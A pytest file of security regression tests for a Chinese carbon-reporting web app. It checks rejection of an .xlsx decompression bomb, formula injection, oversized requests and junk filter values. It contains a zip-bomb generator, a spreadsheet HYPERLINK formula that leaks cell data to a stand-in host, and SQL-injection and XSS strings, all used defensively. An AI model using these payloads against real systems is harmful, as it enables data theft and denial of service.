"""Probes an attacker or a clumsy user would try, kept as regression tests (issue 15): uploads that cannot
exhaust memory or hide rows, exports that cannot run formulas, request bodies refused before they are read."""

from __future__ import annotations

import io
import tracemalloc
import zipfile

import pytest
from openpyxl import load_workbook

from carbonpeak.core import upload_errors
from carbonpeak.energy import certificates as register
from carbonpeak.energy import workbook


def _bomb(decompressed: int) -> bytes:
    """A small .xlsx whose shared-strings part decompresses to ``decompressed`` bytes (one huge string)."""
    template = zipfile.ZipFile(io.BytesIO(workbook.template_bytes("2025Q1", "太仓市")))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in template.infolist():
            if item.filename != "xl/sharedStrings.xml":
                bomb.writestr(item, template.read(item))
        with bomb.open("xl/sharedStrings.xml", "w") as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
            chunk = b"a" * (1 << 20)
            for _ in range(decompressed // len(chunk)):
                part.write(chunk)
            part.write(b"</t></si></sst>")
    return out.getvalue()


def test_a_decompression_bomb_is_refused_naming_the_limit_without_the_memory_it_asks_for():
    data = _bomb(200 * 2**20)  # 200 MB of text in a file of a fraction of a megabyte
    assert len(data) < 2**20
    tracemalloc.start()
    form = workbook.read_upload(data, "bomb.xlsx")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert not form.records and "解压后超过 50 MB" in str(form.errors[0])
    assert peak < 20 * 2**20, f"peak {peak / 2**20:.1f} MB"
    parsed = register.read_register(data, "bomb.xlsx", region="太仓市", home_province="江苏")
    assert "解压后超过 50 MB" in str(parsed.errors[0])


def _filled_template(cells: dict[tuple[str, str], object]) -> bytes:
    wb = load_workbook(io.BytesIO(workbook.template_bytes("2025Q1", "太仓市")))
    for (sheet, ref), value in cells.items():
        wb[sheet][ref] = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_a_formula_cell_is_refused_by_name_never_dropped():
    """A workbook with formula cells (no cached values) used to be accepted with rows silently missing."""
    first = workbook.HEADER_ROW + 1
    data = _filled_template(
        {
            (workbook.FUELS_SHEET, f"D{first}"): "=1+1",
            (workbook.FUELS_SHEET, f"D{first + 1}"): 5,
        }
    )
    form = workbook.read_upload(data, "f.xlsx")
    text = "\n".join(str(e) for e in form.errors)
    assert f"工作表“{workbook.FUELS_SHEET}” 第{first}行 D列：是公式" in text


def test_an_over_long_cell_and_too_many_errors_are_bounded():
    long = "原煤" * 1000
    csv_text = "period,region,sector,fuel,quantity,unit\n" + f"2025Q1,太仓市,其他工业,{long},1,吨\n"
    form = workbook.read_upload(csv_text.encode(), "long.csv")
    assert "超过 1000 个字符" in str(form.errors[0])
    bad = "period,region,sector,fuel,quantity,unit\n" + "2025Q1,太仓市,其他工业,原煤,abc,吨\n" * 5000
    form = workbook.read_upload(bad.encode(), "bad.csv")
    assert len(form.errors) == upload_errors.MAX_ERRORS + 1
    assert "问题超过 200 处" in str(form.errors[-1])
    huge_field = "period,region,sector,fuel,quantity,unit\n" + '2025Q1,"' + "x" * 200_000 + '",a,b,1,吨\n'
    form = workbook.read_upload(huge_field.encode(), "field.csv")
    assert form.errors and not form.records  # csv's field limit answered as a named error, not a crash


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_text_cells_written_to_spreadsheets_never_become_formulas(prefix):
    from carbonpeak.reports.content import Column, Report, Section, Table
    from carbonpeak.reports.writers import write_xlsx

    payload = prefix + 'HYPERLINK("http://example.invalid/?leak="&A1,"点击查看详情")'
    table = Table(
        "进展", payload, [Column("部门"), Column("进展")], [[payload, payload]], source=payload, note=payload
    )
    report = Report(
        title=payload,
        period_key="2025Q3",
        period_label="2025年第3季度",
        region=payload,
        generated_at="2026-11-30",
        sample=False,
        data_version={"说明": payload},
        sections=[Section("任务进展", [payload], [table])],
    )
    wb = load_workbook(io.BytesIO(write_xlsx(report)))
    texts = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type != "f" for c in texts)
    assert all(not c.value.startswith(upload_errors.FORMULA_PREFIXES) for c in texts)
    assert any(c.value == "'" + payload for c in texts)
    template = load_workbook(io.BytesIO(workbook.template_bytes("2025Q1", payload)))
    assert template[workbook.COVER]["B4"].value == "'" + payload


def test_a_request_body_over_the_cap_is_refused_before_it_is_read(client, settings):
    settings.CARBONPEAK_MAX_REQUEST_BYTES = 1000
    response = client.generic("POST", "/api/auth/token", b"x" * 2000, content_type="application/json")
    assert response.status_code == 413 and response.json()["code"] == "too_large"
    page = client.generic("POST", "/energy/submissions/upload/", b"x" * 2000, content_type="text/plain")
    assert page.status_code == 413 and "上限" in page.content.decode()


JUNK = ["abc", "-1", "2025-13-45", "9" * 30, "%E4%B8%AD", "' OR 1=1 --", "<script>alert(1)</script>"]
LIST_PAGES = {
    "/monitoring/warnings/": ("department",),
    "/accounts/audit/": ("date_from", "date_to", "user", "action", "object_type", "page"),
    "/plans/targets/": ("year", "action", "department", "kind"),
    "/plans/matrix/": ("plan", "group"),
    "/energy/": ("region",),
    "/energy/submissions/": ("status",),
    "/energy/certificates/": ("page",),
    "/energy/template.xlsx": ("period", "region"),
    "/projection/规划情景/": ("end",),
    "/progress/": ("period",),
    "/meters/": ("month", "failing", "page"),
}


@pytest.mark.parametrize("path", list(LIST_PAGES))
def test_every_list_page_answers_junk_filters_without_a_server_error(client, demo_plan, coordinator, path):
    client.force_login(coordinator)
    for name in LIST_PAGES[path]:
        for junk in JUNK:
            response = client.get(path, {name: junk})
            assert response.status_code < 500, (path, name, junk)
            if response.status_code == 400:
                assert "请求有误" in response.content.decode() or "无效" in response.content.decode()


def test_bad_filters_are_400s_in_chinese(client, coordinator):
    client.force_login(coordinator)
    response = client.get("/monitoring/warnings/", {"department": "abc"})
    assert response.status_code == 400 and "部门参数“abc”无效：须为" in response.content.decode()
    response = client.get("/accounts/audit/", {"date_to": "2025-13-45"})
    assert response.status_code == 400 and "须写作 2025-01-31" in response.content.decode()


def test_error_pages_and_api_errors_are_chinese(client, coordinator):
    missing = client.get("/no-such-page/")
    assert missing.status_code == 404 and "页面不存在" in missing.content.decode()
    api = client.get("/api/no-such-endpoint")
    assert (
        api.status_code == 404 and api.json()["code"] == "not_found" and not api.json()["message"].isascii()
    )
    from django.test import Client

    strict = Client(enforce_csrf_checks=True)
    strict.force_login(coordinator)
    refused = strict.post("/energy/factors/enter/", {"kind": "generation_coal_rate"})
    assert (
        refused.status_code == 403
        and "CSRF" in refused.content.decode()
        and "刷新页面" in refused.content.decode()
    )
    malformed = client.generic("POST", "/api/auth/token", b"{not json", content_type="application/json")
    assert malformed.status_code in (400, 422) and not malformed.json()["message"].isascii()


def test_pages_carry_a_content_security_policy_without_inline_scripts(client, coordinator):
    client.force_login(coordinator)
    response = client.get("/energy/submissions/")
    policy = response["Content-Security-Policy"]
    assert (
        "script-src 'self'" in policy and "frame-ancestors 'none'" in policy and "object-src 'none'" in policy
    )
    assert " on" + "change=" not in response.content.decode()  # event handlers live in static files


def test_uploaded_workbooks_are_parsed_through_defusedxml():
    """openpyxl parses a workbook's XML with defusedxml when it is installed (a declared dependency): entity
    expansion and external entities in an uploaded .xlsx are refused by the parser."""
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML is True
